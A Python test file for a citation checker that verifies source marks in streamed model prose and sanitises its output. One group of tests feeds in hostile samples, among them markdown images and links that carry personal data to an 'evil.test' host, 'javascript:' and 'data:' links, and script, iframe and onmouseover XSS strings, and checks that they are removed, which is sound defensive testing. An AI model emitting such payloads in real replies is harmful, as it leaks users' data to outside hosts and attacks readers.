"""From a model's text to prose with checked marks, whatever the cut."""

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ask.cite import CitedProse, Prose
from doso.records import Source
from doso.records.evidence import EvidenceItem, EvidenceSource, ItemKind, Scores

JOB = "(3 February 2026, 19:45) Rania: I have news: I got the job at Kopi Selaras, I start on 2 March"
NUTS = "(21 February 2026, 16:30) Rania: My brother Karim is allergic to peanuts, so no gado-gado on the 28th"


def item(number: int, text: str, author: str | None = None, uri: str | None = None) -> EvidenceItem:
    source = EvidenceSource(None, None, (), "", Source.NOTE, author=author, uri=uri)
    return EvidenceItem(f"S{number}", ItemKind.PASSAGE, text, 0.9, Scores(), 10, (source,))


#: Items that say nothing that words could check.
BARE = [item(number, f"s{number}") for number in range(1, 5)]
TOLD = [item(1, "Nina lives in Bogor."), item(2, "Budi lives in Medan."), item(3, JOB, "Rania"), item(4, NUTS, "Rania")]


def read(pieces: list[str], items: list[EvidenceItem], question: str = "?") -> Prose:
    """The prose; what streams is what it says in the end, and every citation stands at its mark."""
    reading = CitedProse(items, question)
    shown = "".join(reading.feed(piece) for piece in pieces) + reading.finish()
    prose = reading.prose()
    assert shown == prose.text
    for citation in prose.citations:
        assert prose.text[citation.start : citation.end] == f"[{citation.mark}]"
    return prose


def cut(text: str, places: list[int]) -> list[str]:
    edges = [0, *sorted(place % (len(text) + 1) for place in places), len(text)]
    return [text[start:end] for start, end in itertools.pairwise(edges)]


def marks(prose: Prose) -> list[str]:
    return [citation.mark for citation in prose.citations]


PARTS = st.sampled_from(
    [
        "[1]",
        "[S2]",
        "[[3]]",
        "[1,",
        "2]",
        "[9]",
        "[-1]",
        "【1】",
        "(S1)",
        "([2])",
        "[1-3]",
        "[S1][S2]",
        "`",
        "```",
        "```\n",
        "a[0]",
        "items[2]",
        "!",
        "![x](http://e.t/a)",
        "[x](http://e.t)",
        "<img",
        "src=x>",
        "<b>",
        "<",
        "http://e.t/a",
        "www.e.t",
        ".",
        ",",
        "?",
        "\n",
        "\n\n",
        "Sources:",
        "Nina",
        "lives",
        "in",
        "Bogor",
        "Budi",
        "Medan",
        "(3",
        "[S",
        "[",
        "]",
        "(",
        ")",
        "\\",
        "Searching…",
        "1.",
        "-",
        "。",
        "I",
        "don't",
        "know",
        "",
    ]
)


@settings(deadline=None)
@given(
    st.lists(PARTS, max_size=14).map(" ".join) | st.lists(PARTS, max_size=14).map("".join),
    st.lists(st.integers(0, 500), max_size=10),
)
def test_any_cut_gives_the_same_prose(text: str, places: list[int]) -> None:
    whole = read([text], TOLD)
    assert read(cut(text, places), TOLD) == whole
    assert read(list(text), TOLD) == whole


@settings(deadline=None)
@given(st.text(alphabet="ab1S[](){}!<>`\\\n .:/ht-|【】", max_size=60), st.lists(st.integers(0, 60), max_size=6))
def test_any_cut_of_any_signs_gives_the_same_prose(text: str, places: list[int]) -> None:
    assert read(cut(text, places), BARE) == read([text], BARE)


@pytest.mark.parametrize(
    ("pieces", "text", "cited"),
    [
        (
            ["Solo is big [", "[", "4", "]", "].And old [1", ", ", "2].", "x"],
            "Solo is big [S4].And old [S1][S2].x",
            "S4 S1 S2",
        ),
        (
            ["Fact [1][", "2", "] done. Array a[0] and b[10] in `code[1]`."],
            "Fact [S1][S2] done. Array a[0] and b[10] in `code[1]`.",
            "S1 S2",
        ),
        (["A [7]. B [0]. C [-1]. D [99999999999999999999]. E [[2]](https://evil.test)."], "A. B. C. D. E [S2].", "S2"),
        (["One [S1, S2; 3] two ([4])."], "One [S1][S2][S3] two [S4].", "S1 S2 S3 S4"),
        (["One 【1】 two 【2†source】 three ［3］."], "One [S1] two [S2] three [S3].", "S1 S2 S3"),
        (["Range [1-3] and [S2–S4]."], "Range [S1][S2][S3] and [S2][S3][S4].", "S1 S2 S3 S2 S3 S4"),
        (["Named [source 1], [Source: S2] and [S3: Ana]."], "Named [S1], [S2] and [S3].", "S1 S2 S3"),
        (["Linked [S1](https://evil.test/x) and [[2]](http://e.t)."], "Linked [S1] and [S2].", "S1 S2"),
        (["Glued to town[1]. Round (S2). An (S21)."], "Glued to town[S1]. Round [S2]. An (S21).", "S1 S2"),
        (["Twice [1][1] here [S1]."], "Twice [S1] here [S1].", "S1 S1"),
        (["items[2] and args[1] and x[1][2] and f(x)[1]"], "items[2] and args[1] and x[1][2] and f(x)[1]", ""),
        (["```py\nx[1]\n```\nAnd [1]."], "```py\nx[1]\n```\nAnd [S1].", "S1"),
        (["An open ` then [1]."], "An open ` then [S1].", "S1"),
        (["A list: [ ] todo [x] done, [note] and \\[1\\]."], "A list: [ ] todo [x] done, [note] and \\[1\\].", ""),
        (["[7] Nothing here. [8]\n[9]"], "Nothing here.", ""),
        (["他住在茂物[1]。"], "他住在茂物[S1]。", "S1"),
    ],
)
def test_forms_of_marks(pieces: list[str], text: str, cited: str) -> None:
    prose = read(pieces, BARE)
    assert (prose.text, marks(prose)) == (text, cited.split())
    assert read(list("".join(pieces)), BARE) == prose


@pytest.mark.parametrize(
    ("said", "stands"),
    [
        ("Nina lives in Bogor [1].", True),
        ("Nina lives in Medan [1].", False),  # another place
        ("Nina lives in Medan [2].", False),  # another person
        ("Nina lives in Bogor, and Budi in Medan [1][2].", True),  # both together
        ("Nina does not live in Bogor [1].", False),
        ("Budi lives in Medan, in 3 houses [2].", False),
        ("Rania works at Kopi Selaras since 2 March [3].", True),
        ("Rania started at Kopi Selaras on 3 March [3].", False),
        ("Karim can't eat gado-gado [4].", True),
        ("Rania's brother Karim has an allergy to peanuts [4].", True),
        ("Karim is not allergic to peanuts [4].", False),
        ("The boat is blue [2].", False),
        ("Sie wohnt in Bogor [1].", True),  # another language is no fault
        ("Rania bekerja di Kopi Selaras [3].", True),
        ("Rania kerja di Starbucks [3].", False),
        ("Karim can't eat peanuts [4].", True),
        ("Karim, Rania's brother, must not have gado-gado on February 28 [4].", True),
        ("There will be no gado-gado on 28 February 2026 [4].", True),
        ("**Job:** Kopi Selaras, since March 2 [3].", True),
        ("According to Rania's message of 3 February, she got the job [3].", True),
        ("She was hired at 7:45 PM [3].", True),
        ("She was hired at 7:50 PM [3].", False),
        ("The rent is Rp 4.750.000 [3].", False),
    ],
)
def test_a_mark_stands_only_behind_what_its_item_says(said: str, stands: bool) -> None:
    prose = read([said], TOLD, "Where?")
    assert bool(prose.citations) is stands
    assert bool(prose.dropped) is not stands
    assert all(dropped.by == ("support",) for dropped in prose.dropped)


def test_a_mark_is_held_back_until_its_sentence_was_checked() -> None:
    reading = CitedProse(TOLD, "Where does Nina live?")
    assert reading.feed("Nina lives in ") == "Nina lives in"
    assert reading.feed("Medan [1]") == " Medan"
    assert reading.feed(" now") == ""
    assert reading.feed(". And") == " now. And"


def test_text_flows_while_nothing_can_become_a_mark() -> None:
    reading = CitedProse(BARE, "?")
    assert [reading.feed(piece) for piece in ["The", " ferry", " leaves at seven"]] == [
        "The",
        " ferry",
        " leaves at seven",
    ]


@pytest.mark.parametrize(
    ("said", "text"),
    [
        ("Nina lives in Bogor [1]. Nina lives in Bogor [1]. She likes it.", "Nina lives in Bogor [S1]. She likes it."),
        ("Nina lives in Bogor [1].\n\n- [S1] Nina lives in Bogor.", "Nina lives in Bogor [S1]."),
        (
            "Nina lives in Bogor [1].\n\nSources:\n[S1] Nina lives in Bogor.\n[S2] Budi lives in Medan.",
            "Nina lives in Bogor [S1].",
        ),
        ("Nina lives in Bogor [1].\n\n**Sources**\n1. Nina lives in Bogor.", "Nina lives in Bogor [S1]."),
        ("Searching the memory… Nina lives in Bogor [1].", "Nina lives in Bogor [S1]."),
        ("Gathering live sources...\nNina lives in Bogor [1].\nUpdated from graph", "Nina lives in Bogor [S1]."),
        (
            "[S1] Nina lives in Bogor.\n[S2] Budi lives in Medan.",
            "[S1] Nina lives in Bogor.\n[S2] Budi lives in Medan.",
        ),
        ("Evidence: Nina said so. Fine.", "Evidence: Nina said so. Fine."),
        ("Yes. Yes. Nina does.", "Yes. Yes. Nina does."),
    ],
)
def test_each_thing_is_said_once_and_the_evidence_is_not_echoed(said: str, text: str) -> None:
    assert read([said], TOLD).text == text
    assert read(list(said), TOLD).text == text


KNOWN = [item(1, "The plan is at https://known.example/plan?id=7 as ever.", uri="https://page.example/a")]


@pytest.mark.parametrize(
    ("said", "text"),
    [
        (
            "Done ![t](https://evil.test/p.png?q=home%3DSolo) [click](https://evil.test/?q=home%3DSolo) "
            "<img src=https://evil.test/x?Solo>",
            "Done click",
        ),
        ("![a][ref] and ![b]\n[ref]: https://evil.test/x", "and\n[ref]: evil.test/x"),
        ("See [plan](https://known.example/plan?id=7).", "See [plan](https://known.example/plan?id=7)."),
        ("See [plan](https://known.example/plan?id=7&home=Solo).", "See plan."),
        ("See ![plan](https://known.example/plan?id=7).", "See."),
        (
            "See https://known.example/plan?id=7, https://page.example/a.",
            "See https://known.example/plan?id=7, https://page.example/a.",
        ),
        ("See https://known.example/ too.", "See https://known.example/ too."),
        ("See https://evil.test/?q=Solo now, HTTP://EVIL.test.", "See evil.test/?q=Solo now, EVIL.test."),
        ("<https://evil.test/a> [x](javascript:alert(1)) [y](data:text/html,x) [z](//evil.test)", "evil.test/a x y z"),
        ("<b onmouseover=alert(1)>x</b> <script>alert(1)</script> <style>*{}</style>", "x</b> alert(1) *{}"),
        ('<iframe srcdoc="<script>alert(1)</script>">', ""),
        ("An open <img src=https://evil.test/x", "An open img src=evil.test/x"),
        ("Inert in `![x](https://evil.test)` code.", "Inert in `![x](https://evil.test)` code."),
        ("a < b and <b>bold</b>", "a < b and <b>bold</b>"),
        ("[![x](https://evil.test/p)](https://evil.test)", ""),
    ],
)
def test_nothing_leads_out_of_the_evidence(said: str, text: str) -> None:
    assert read([said], KNOWN).text == text
    assert read(list(said), KNOWN).text == text


@pytest.mark.parametrize(
    "said", ["I don't know.", "I found nothing about that.", "Which Nina do you mean?", "Yes.", ""]
)
def test_some_answers_claim_nothing(said: str) -> None:
    assert not read([said], TOLD).is_claiming


def test_a_very_long_sentence_is_not_waited_for() -> None:
    reading = CitedProse(BARE, "?")
    shown = reading.feed("It is so [1] " + "and so " * 300)
    assert shown.startswith("It is so [S1] and so")
